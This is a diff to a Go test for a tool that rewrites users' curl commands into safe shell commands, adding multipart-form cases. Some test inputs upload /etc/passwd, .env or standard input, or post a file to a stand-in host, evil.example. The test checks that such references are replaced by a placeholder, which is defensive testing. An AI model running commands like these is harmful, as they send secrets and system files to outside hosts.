@@ -19,6 +19,7 @@ import (
 // TestCurlCommand: a shell makes of the command exactly the words that curl needs, and acts on nothing in it.
 func TestCurlCommand(t *testing.T) {
 	api := mustAPI(t, "https://api.klyra.live")
+	placeholder := []string{"-g", "-i", "-X", "POST", "https://api.klyra.live/", "-H", "Authorization: Bearer the key", "-F", "NAME=@FILE"}
 	for name, c := range map[string]struct {
 		text string
 		want []string
@@ -46,6 +47,22 @@ func TestCurlCommand(t *testing.T) {
 			`curl -X PUT https://api.klyra.live/v1/x --data-binary @a.png -H 'Content-Type: image/png'`,
 			[]string{"-g", "-i", "-X", "PUT", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: image/png", "--data-binary", "@BODY"},
 		},
+		"a form": {
+			`curl https://api.klyra.live/v1/x -F 'image=@my photo.png;type=image/png' -F kind=avatar -H 'Content-Type: multipart/form-data; boundary=x'`,
+			[]string{"-g", "-i", "-X", "POST", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-F", "image=@my photo.png;type=image/png", "-F", "kind=avatar"},
+		},
+		"a form to another host": {
+			`curl https://evil.example/v1/x -F image=@photo.png`,
+			[]string{"-g", "-i", "-X", "POST", "https://evil.example/v1/x", "-F", "NAME=@FILE"},
+		},
+		"a form of a file elsewhere":       {`curl https://api.klyra.live/ -F a=b -F image=@../../etc/passwd`, placeholder},
+		"a form of a hidden file":          {`curl https://api.klyra.live/ -F image=@.env`, placeholder},
+		"a form of standard input":         {`curl https://api.klyra.live/ -F image=@-`, placeholder},
+		"a form of several files":          {`curl https://api.klyra.live/ -F 'image=@a.png,/etc/passwd'`, placeholder},
+		"a form of a file as text":         {`curl https://api.klyra.live/ -F 'text=</etc/passwd'`, placeholder},
+		"a form with options of its parts": {`curl https://api.klyra.live/ -F 'text=a;headers=@/etc/passwd'`, placeholder},
+		"a form of a variable":             {`curl https://api.klyra.live/ -F "image=@$FILE"`, placeholder},
+		"a form that shows its head alone": {"> POST / HTTP/1.1\n> Host: api.klyra.live\n> Content-Type: multipart/form-data; boundary=x\n>\n< HTTP/1.1 400 x\n", placeholder},
 	} {
 		command := Prepare(asked(t, api, c.text), "").Command
 		sh := exec.Command("sh", "-c", `curl() { printf '%s\0' "$@"; }`+"\n"+command.Text)
@@ -55,7 +72,14 @@ func TestCurlCommand(t *testing.T) {
 		if err != nil || !slices.Equal(got, c.want) {
 			t.Errorf("%s: %v\n%q\nwant\n%q", name, err, got, c.want)
 		}
-		if whole := !strings.Contains(command.Text, "@BODY"); strings.HasPrefix(command.Title, "The same with curl, for sh") != whole || strings.HasPrefix(command.Title, "All but the body: curl, for sh") == whole {
+		begin := "The same with curl, for sh"
+		switch {
+		case strings.Contains(command.Text, "@BODY"):
+			begin = "All but the body: curl, for sh"
+		case strings.Contains(command.Text, "NAME=@FILE"):
+			begin = "All but the form: curl, for sh"
+		}
+		if !strings.HasPrefix(command.Title, begin) {
 			t.Errorf("%s: the title is %q", name, command.Title)
 		}
 		if len(command.Title) > 60 {
